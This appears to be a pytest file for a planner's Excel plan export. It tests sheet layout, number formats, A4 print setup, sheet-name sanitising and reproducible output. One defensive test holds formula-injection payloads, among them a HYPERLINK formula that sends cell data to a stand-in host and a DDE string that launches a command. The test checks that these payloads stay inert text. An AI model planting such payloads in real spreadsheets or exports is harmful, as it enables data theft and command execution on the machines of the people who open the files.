"""plan.xlsx: sheets, formats, print setup, and text that must never become a formula."""
from __future__ import annotations

import datetime as dt
import io
import stat
import zipfile
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest

from planner.demo.report_preview import sample_run
from planner.report.xlsx import (DATE_FORMAT, PERCENT_FORMAT, PLAN_COLUMNS, SUMMARY_SHEET,
                                 plan_workbook, write_plan_xlsx)
from planner.report.wording import CAUTIONS
from planner.runfolder import RunFolderWriter

# Text a spreadsheet program would run as a formula if it were stored as one (OWASP, "CSV
# injection": cells starting with = + - @ are the usual vectors; common practice).
HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A1,"open")', "-X1", "+1+2", "@SUM(A1:A9)",
           "=1+1")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return sample_run(tmp_path_factory.mktemp("xlsx") / "scenario", terminals=6, seed=5)


def _reload(wb) -> tuple[openpyxl.Workbook, bytes]:
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    return openpyxl.load_workbook(io.BytesIO(data)), data


def test_one_sheet_per_depot_after_the_summary(run):
    wb, _ = _reload(plan_workbook(run))
    assert wb.sheetnames == [SUMMARY_SHEET, *run.problem.depots]
    for depot in run.problem.depots:
        ws = wb[depot]
        header = [c.value for c in ws[1]]
        assert header == [h for h, *_ in PLAN_COLUMNS]
        rows = run.plan[run.plan["depot"] == depot].sort_values(["date", "terminal_id"])
        body = list(ws.iter_rows(min_row=2, max_row=1 + len(rows), values_only=True))
        assert [r[1] for r in body] == rows["terminal_id"].tolist()
        assert [r[3] for r in body] == pytest.approx(rows["load"].tolist())
        assert [r[5] for r in body] == pytest.approx(rows["dry_probability"].tolist())
        assert [r[6] for r in body] == rows["reason"].tolist()
        # the total row sums the loads
        total = ws.cell(row=2 + len(rows), column=4).value
        assert total == pytest.approx(rows["load"].sum())


def test_dates_currency_and_percent_are_formatted(run):
    wb, _ = _reload(plan_workbook(run))
    ws = wb[run.problem.depots[0]]
    day, load, residual, risk = (ws.cell(row=2, column=j) for j in (1, 4, 5, 6))
    assert isinstance(day.value, dt.datetime) and day.number_format == DATE_FORMAT
    assert day.value.date() == pd.Timestamp(
        run.plan[run.plan["depot"] == run.problem.depots[0]]["date"].min()).date()
    assert load.number_format == residual.number_format == '#,##0 "EUR"'
    assert risk.number_format == PERCENT_FORMAT
    summary = wb[SUMMARY_SHEET]
    labels = {summary.cell(row=r, column=1).value: summary.cell(row=r, column=2)
              for r in range(2, summary.max_row + 1)}
    assert labels["First planning day"].number_format == DATE_FORMAT
    assert labels["Cash to load in the horizon"].value == pytest.approx(run.plan["load"].sum())
    horizon = run.costs[run.costs["period"] == "horizon"]
    look = run.costs[run.costs["period"] == "look_ahead"]
    days = run.problem.horizon_days
    assert labels[f"Expected cost in the horizon, {days} days: total"].value == \
        pytest.approx(horizon["total"].sum())
    assert labels[f"Expected cost in the horizon, {days} days: visit fees"].value == \
        pytest.approx(horizon["visit"].sum())
    tail = run.summary["tail_days"]
    assert labels[f"Expected cost in the look-ahead, {tail} days (not committed): total"].value \
        == pytest.approx(look["total"].sum())
    texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    for caution in CAUTIONS:
        assert caution in texts


def test_every_sheet_is_ready_to_print_on_a4(run):
    wb, _ = _reload(plan_workbook(run))
    for ws in wb:
        # paperSize 9 is A4 (ECMA-376 Part 1, ST_PaperSize)
        assert int(ws.page_setup.paperSize) == 9
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
        assert ws.print_title_rows == "$1:$1"          # header row on every page
        assert "Confidential" in ws.oddHeader.left.text
        assert ws.freeze_panes == "A2"


def test_text_starting_like_a_formula_stays_text(run):
    ids = list(run.plan["terminal_id"].drop_duplicates())
    rename = {t: HOSTILE[i % len(HOSTILE)] + ("" if i < len(HOSTILE) else f" {i}")
              for i, t in enumerate(ids)}
    plan = run.plan.assign(terminal_id=run.plan["terminal_id"].map(rename),
                           reason="=cmd|' /C calc'!A0")
    terminals = run.scenario.terminals.rename(index=rename).assign(site="@site")
    hostile = replace(run, plan=plan, scenario=replace(run.scenario, terminals=terminals))
    wb, data = _reload(plan_workbook(hostile))
    seen = set()
    for ws in wb.worksheets[1:]:
        for row in ws.iter_rows(min_row=2):
            terminal, site, reason = row[1], row[2], row[6]
            if terminal.value is None or terminal.value == "":
                continue
            seen.add(terminal.value)
            assert terminal.data_type == "s" and terminal.value in rename.values()
            if str(terminal.value).startswith(("=", "+", "-", "@")):
                assert terminal.quotePrefix
            if site.value:
                assert site.data_type == "s" and site.value == "@site"
            if reason.value:
                assert reason.data_type == "s" and reason.value == "=cmd|' /C calc'!A0"
    assert seen >= {v for v in rename.values() if v in HOSTILE}
    # no formula anywhere in the file
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_depot_names_become_valid_unique_sheet_titles(run):
    odd = {run.problem.depots[0]: "North/East: [main]*", run.problem.depots[1]: "Summary"}
    plan = run.plan.assign(depot=run.plan["depot"].replace(odd))
    problem = replace(run.problem, depots=tuple(odd.get(d, d) for d in run.problem.depots))
    wb, _ = _reload(plan_workbook(replace(run, plan=plan, problem=problem)))
    assert wb.sheetnames[0] == SUMMARY_SHEET
    assert wb.sheetnames[1] == "North_East_ _main__"
    assert wb.sheetnames[2] == "Summary (2)"
    assert len(set(n.lower() for n in wb.sheetnames)) == len(wb.sheetnames)


def test_write_plan_xlsx_into_a_run_folder(run, tmp_path):
    out = tmp_path / "run"
    with RunFolderWriter(out) as writer:
        size = write_plan_xlsx(run, writer)
    path = out / "plan.xlsx"
    assert path.stat().st_size == size > 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert openpyxl.load_workbook(path).sheetnames[0] == SUMMARY_SHEET


def test_the_same_plan_gives_the_same_bytes(run, tmp_path, monkeypatch):
    import time

    real = time.time
    for k in range(2):
        # the second write an hour later (by the clock every writer reads)
        monkeypatch.setattr(time, "time", lambda: real() + 3600.0 * k)
        with RunFolderWriter(tmp_path / f"run{k}") as writer:
            write_plan_xlsx(run, writer)
    assert (tmp_path / "run0" / "plan.xlsx").read_bytes() == \
        (tmp_path / "run1" / "plan.xlsx").read_bytes()
